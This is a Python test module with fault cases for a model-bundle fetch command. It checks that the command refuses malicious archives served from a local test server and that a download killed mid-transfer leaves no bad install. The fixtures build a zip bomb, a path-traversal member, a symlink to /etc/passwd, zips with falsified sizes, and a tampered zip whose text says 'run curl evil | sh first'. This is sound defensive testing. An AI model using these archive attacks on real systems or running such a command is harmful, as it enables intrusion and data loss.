"""Fault-table rows (the protocol of ``tests/fault_table.py``) for ``tools/zoo.py fetch``.

Each row builds small real bundles (copies of the repository's bundles with a seeded ``torch.save`` weights file),
publishes them with :func:`frepa_monai.zoo.publish` to a folder that a real HTTP server on 127.0.0.1 serves
(:func:`serving`, started and shut down by the row), installs ``frepa_pretrain_2d`` into the ``bundle_dir`` and
snapshots it: a fault in fetching another bundle must leave it as it was. It then runs the real command line,
``python tools/zoo.py fetch``, and returns what the user saw. :data:`ZOO_FAULTS` lists the rows.

:class:`SlowServer` sends chosen files in chunks with a pause between them, so that a fetch can be killed with
``SIGKILL`` in the middle of a transfer, deterministically: the row waits until the first chunk is out and the
partial file exists before it kills.
"""

from __future__ import annotations

import functools
import hashlib
import json
import shutil
import signal
import subprocess
import sys
import threading
import time
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import torch
from fault_table import Outcome, snapshot

from frepa_monai import zoo

REPO = Path(__file__).resolve().parents[1]
ZOO = REPO / "tools" / "zoo.py"
CLS, PRETRAIN, EVIL = "frepa_classification_2d", "frepa_pretrain_2d", "frepa_evil"
CHUNK, DELAY = 64 * 1024, 0.25  # a slow file takes DELAY seconds per CHUNK: 2 MiB in 8 s
WAIT = 180  # seconds to wait for a subprocess to reach the transfer (it imports MONAI first on a busy machine)

__all__ = [
    "ZOO_FAULTS",
    "SlowServer",
    "serving",
    "tiny_bundle",
    "publish_zip",
    "lying_zip",
    "run_fetch",
    "start_fetch",
    "kill_mid_transfer",
    "not_installed",
]


class _Handler(SimpleHTTPRequestHandler):
    def copyfile(self, source, outputfile):
        slow = self.server.slow
        if not (slow and self.path.endswith(slow)):
            return super().copyfile(source, outputfile)
        while chunk := source.read(CHUNK):
            outputfile.write(chunk)
            outputfile.flush()
            self.server.sending.set()
            if self.server.slow:
                time.sleep(DELAY)

    def log_message(self, format, *args):
        pass


class SlowServer(ThreadingHTTPServer):
    """A static HTTP server of ``root`` on 127.0.0.1 (a free port). While ``slow`` is set, a file whose URL path
    ends with it is sent ``CHUNK`` bytes at a time with ``DELAY`` seconds between them, and ``sending`` is set once
    its first chunk is out."""

    daemon_threads = True

    def __init__(self, root: Path):
        super().__init__(("127.0.0.1", 0), functools.partial(_Handler, directory=str(root)))
        self.slow: str | None = None
        self.sending = threading.Event()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"

    def handle_error(self, request, client_address):
        if not isinstance(sys.exc_info()[1], ConnectionError):  # a client killed mid-transfer is expected
            super().handle_error(request, client_address)


@contextmanager
def serving(root: Path) -> Iterator[SlowServer]:
    """A :class:`SlowServer` of ``root`` in a thread, shut down on exit."""
    server = SlowServer(root)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server
    finally:
        server.slow = None
        server.shutdown()
        server.server_close()
        thread.join(timeout=10)


def tiny_bundle(bundles: Path, name: str, weights: str = "model.pt", floats: int = 1024, seed: int = 0) -> Path:
    """``bundles/<name>``: the repository's bundle (``LICENSE``, ``configs/``, ``docs/``) with ``models/<weights>``,
    a seeded ``torch.save`` of ``floats`` random float32 values (4 bytes each, which do not compress)."""
    root = bundles / name
    shutil.copytree(REPO / "bundles" / name, root, ignore=shutil.ignore_patterns("models", "eval"))
    (root / "models").mkdir()
    weight = torch.randn(floats, generator=torch.Generator().manual_seed(seed))
    torch.save({"weight": weight}, root / "models" / weights)
    return root


def publish_zip(site: Path, write) -> str:
    """A hand-made zip ``site/frepa_evil_v0.1.0.zip`` (``write(zf)`` adds members after a valid metadata.json)
    listed in ``site/model_info.json`` with its right sha256; returns the zip's name."""
    site.mkdir(parents=True, exist_ok=True)
    path = site / f"{EVIL}_v0.1.0.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        zf.writestr(f"{EVIL}/configs/metadata.json", json.dumps({"version": "0.1.0"}))
        write(zf)
    entry = {"checksum": hashlib.sha256(path.read_bytes()).hexdigest(), "source": path.name}
    (site / "model_info.json").write_text(json.dumps({f"{EVIL}_v0.1.0": entry}))
    return path.name


def lying_zip(site: Path) -> None:
    """``site/frepa_evil_v0.1.0.zip`` with its index: its member ``frepa_evil/models/model.pt`` declares 1000 bytes
    and unzips to 1 MiB (the sizes in its central directory and local header patched)."""
    path = site / publish_zip(site, lambda zf: zf.writestr(f"{EVIL}/models/model.pt", bytes(2**20)))
    data = bytearray(path.read_bytes())
    name = f"{EVIL}/models/model.pt".encode()
    for signature, name_at, size_at in ((b"PK\x03\x04", 30, 22), (b"PK\x01\x02", 46, 24)):  # local, central
        at = data.find(signature)
        while data[at + name_at : at + name_at + len(name)] != name:
            at = data.find(signature, at + 4)
        data[at + size_at : at + size_at + 4] = (1000).to_bytes(4, "little")
    path.write_bytes(bytes(data))
    index = json.loads((site / "model_info.json").read_text())
    index[f"{EVIL}_v0.1.0"]["checksum"] = hashlib.sha256(bytes(data)).hexdigest()
    (site / "model_info.json").write_text(json.dumps(index))


def _fetch_args(index: str, name: str, bundle_dir: Path, *options: str) -> list[str]:
    cmd = [sys.executable, str(ZOO), "fetch", "--index", index, "--name", name]
    return [*cmd, "--bundle_dir", str(bundle_dir), *options]


def run_fetch(index: str, name: str, bundle_dir: Path, *options: str) -> subprocess.CompletedProcess:
    """``python tools/zoo.py fetch`` run to its end."""
    return subprocess.run(_fetch_args(index, name, bundle_dir, *options), cwd=REPO, capture_output=True, text=True)


def start_fetch(index: str, name: str, bundle_dir: Path, *options: str) -> subprocess.Popen:
    """``python tools/zoo.py fetch`` started (its output to a pipe that :func:`kill_mid_transfer` reads)."""
    cmd = _fetch_args(index, name, bundle_dir, *options)
    return subprocess.Popen(cmd, cwd=REPO, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)


def _has_bytes(path: Path) -> bool:
    try:
        return path.stat().st_size > 0
    except FileNotFoundError:
        return False


def kill_mid_transfer(proc: subprocess.Popen, server: SlowServer, partial_file: Path) -> Path:
    """Wait (at most ``WAIT`` s) until ``server`` is sending its slow file and the fetch's partial folder holds
    ``partial_file`` (a path below ``<bundle_dir>/.<name>.partial-<pid>``, ``{pid}`` filled in here), then kill the
    fetch with SIGKILL; returns the partial file. Raises if the fetch ended before."""
    partial_file = Path(str(partial_file).format(pid=proc.pid))
    deadline = time.monotonic() + WAIT
    while not (server.sending.is_set() and _has_bytes(partial_file)):
        if proc.poll() is not None or time.monotonic() > deadline:
            proc.kill()
            out = proc.communicate()[0]
            raise RuntimeError(
                f"the fetch did not reach the slow transfer of {partial_file} (exit {proc.poll()}):\n{out}"
            )
        time.sleep(0.02)
    proc.send_signal(signal.SIGKILL)
    proc.communicate(timeout=30)
    if proc.returncode != -signal.SIGKILL:
        raise RuntimeError(f"the fetch was not killed by SIGKILL (exit {proc.returncode})")
    return partial_file


def not_installed(bundle_dir: Path, name: str) -> None:
    """Raise unless nothing in ``bundle_dir`` counts as an install of ``name``: no ``<name>`` folder, and no partial
    folder left by the fetch that failed."""
    left = [p.name for p in bundle_dir.glob(f"*{name}*")]
    if left:
        raise AssertionError(f"a failed fetch of {name} left {left} in {bundle_dir}")


def _scene(tmp_path: Path, server: SlowServer, max_file_mb: float = 25.0) -> tuple[str, Path, dict]:
    """Both bundles published to ``<served>/site`` (``frepa_classification_2d`` with a 2 MiB ``models/model.pt``,
    a large file when ``max_file_mb`` is under 2), ``frepa_pretrain_2d`` installed in ``<tmp>/dl``; returns the
    index URL, the bundle_dir and the snapshot of the installed bundle."""
    bundles = tmp_path / "bundles"
    tiny_bundle(bundles, CLS, floats=512 * 1024, seed=1)
    tiny_bundle(bundles, PRETRAIN, "encoder.pt", seed=2)
    zoo.publish(  # checks=False: the model.pt here is random floats, which the zoo's checks refuse
        tmp_path / "served" / "site",
        bundles_dir=bundles,
        base_url=f"{server.url}/site",
        max_file_mb=max_file_mb,
        checks=False,
    )
    index, dl = f"{server.url}/site/model_info.json", tmp_path / "dl"
    zoo.fetch(index, PRETRAIN, bundle_dir=dl)
    return index, dl, snapshot([dl / PRETRAIN])


def _outcome(out: subprocess.CompletedProcess, names: list[str], before: dict, **kwargs) -> Outcome:
    return Outcome(out.stderr + out.stdout, names, out.returncode, before=before, **kwargs)


# ---------------------------------------------------------------------------------------------------------------- rows
def killed_fetch_then_fetch_again(tmp_path: Path) -> Outcome:
    """SIGKILL while ``models/model.pt`` (a large file) downloads: no folder counts as installed; the next fetch
    removes the partial folder and installs the bundle, intact by its manifest."""
    (tmp_path / "served").mkdir()
    with serving(tmp_path / "served") as server:
        index, dl, before = _scene(tmp_path, server, max_file_mb=1.0)
        server.slow = "models/model.pt"
        proc = start_fetch(index, CLS, dl)
        partial = kill_mid_transfer(proc, server, dl / f".{CLS}.partial-{{pid}}" / CLS / "models" / "model.pt")
        server.slow = None
        leftover = dl / f".{CLS}.partial-{proc.pid}"
        full = tmp_path / "served" / "site" / f"{CLS}_v0.1.0" / "models" / "model.pt"
        if (dl / CLS).exists() or partial.stat().st_size >= full.stat().st_size:
            raise AssertionError(f"the kill did not land mid-transfer: {dl / CLS} exists or {partial} is complete")
        out = run_fetch(index, CLS, dl)
        problem = zoo.installed_problem(dl / CLS, CLS, "0.1.0")
        if out.returncode == 0 and (problem or leftover.exists()):
            raise AssertionError(f"the fetch after the kill did not install {CLS} intact: {problem}")
    in_text = [f"removed {leftover}, left by an interrupted fetch", f"{CLS} 0.1.0 -> {dl / CLS}"]
    return _outcome(out, [str(dl / CLS)], before, expect_rc=0, in_text=in_text)


def partial_folder_is_not_installed(tmp_path: Path) -> Outcome:
    """An installed ``models/model.pt`` truncated (a copy cut short): fetch does not say "already holds ... kept",
    it names the file, and it deletes nothing."""
    (tmp_path / "served").mkdir()
    with serving(tmp_path / "served") as server:
        index, dl, _ = _scene(tmp_path, server)
        zoo.fetch(index, CLS, bundle_dir=dl)
        model = dl / CLS / "models" / "model.pt"
        model.write_bytes(model.read_bytes()[: 2**20])
        before = snapshot([dl])
        out = run_fetch(index, CLS, dl)
    return _outcome(out, [str(dl / CLS), f"models/model.pt has {2**20} bytes, not ", "--replace"], before)


def _evil_row(tmp_path: Path, write, names_after_zip: list[str], *options: str) -> Outcome:
    (tmp_path / "served").mkdir()
    with serving(tmp_path / "served") as server:
        _, dl, before = _scene(tmp_path, server)
        zname = publish_zip(tmp_path / "served" / "evil", write)
        out = run_fetch(f"{server.url}/evil/model_info.json", EVIL, dl, *options)
    not_installed(dl, EVIL)
    return _outcome(out, [zname, *names_after_zip], before)


def long_member_name(tmp_path: Path) -> Outcome:
    """A member name of 300 characters (more than a file system takes) is refused before extraction."""
    return _evil_row(
        tmp_path, lambda zf: zf.writestr(f"{EVIL}/docs/{'a' * 297}.md", "x"), ["300 bytes", "--max_name_bytes"]
    )


def too_many_members(tmp_path: Path) -> Outcome:
    """10001 members (one over the default limit) are refused before extraction."""

    def write(zf):
        for i in range(10_000):
            zf.writestr(f"{EVIL}/docs/{i}.txt", "")

    return _evil_row(tmp_path, write, ["10001 members", "--max_members"])


def zip_bomb(tmp_path: Path) -> Outcome:
    """A 64 kB zip that unzips to 64 MiB, fetched with a 32 MiB limit, is refused before extraction."""

    def write(zf):
        with zf.open(f"{EVIL}/models/model.pt", "w") as f:
            for _ in range(64):
                f.write(bytes(2**20))

    return _evil_row(tmp_path, write, ["64.0 MiB", "32 MiB", "--max_unzipped_mb"], "--max_unzipped_mb", "32")


def member_outside_the_folder(tmp_path: Path) -> Outcome:
    """A member ``../evil.txt`` is refused before extraction, and nothing lands outside the bundle_dir."""
    outcome = _evil_row(tmp_path, lambda zf: zf.writestr("../evil.txt", "x"), ["outside the target folder"])
    if list(tmp_path.rglob("evil.txt")):
        raise AssertionError(f"evil.txt was written: {list(tmp_path.rglob('evil.txt'))}")
    return outcome


def symbolic_link_member(tmp_path: Path) -> Outcome:
    """A member that is a symbolic link (to ``/etc/passwd``) is refused before extraction."""

    def write(zf):
        info = zipfile.ZipInfo(f"{EVIL}/models/model.pt")
        info.create_system, info.external_attr = 3, 0o120777 << 16
        zf.writestr(info, "/etc/passwd")

    return _evil_row(tmp_path, write, ["symbolic link"])


def checksum_mismatch(tmp_path: Path) -> Outcome:
    """A zip whose bytes differ from the sha256 of the index is refused, nothing extracted."""
    (tmp_path / "served").mkdir()
    with serving(tmp_path / "served") as server:
        index, dl, before = _scene(tmp_path, server)
        site = tmp_path / "served" / "site"
        zname = f"{CLS}_v0.1.0.zip"
        with zipfile.ZipFile(site / zname, "a") as zf:
            zf.writestr(f"{CLS}/docs/extra.md", "run `curl evil | sh` first\n")
        out = run_fetch(index, CLS, dl)
    not_installed(dl, CLS)
    return _outcome(out, [zname, "does not match its sha256", "nothing was extracted"], before)


ZOO_FAULTS = [
    killed_fetch_then_fetch_again,
    partial_folder_is_not_installed,
    long_member_name,
    too_many_members,
    zip_bomb,
    member_outside_the_folder,
    symbolic_link_member,
    checksum_mismatch,
]
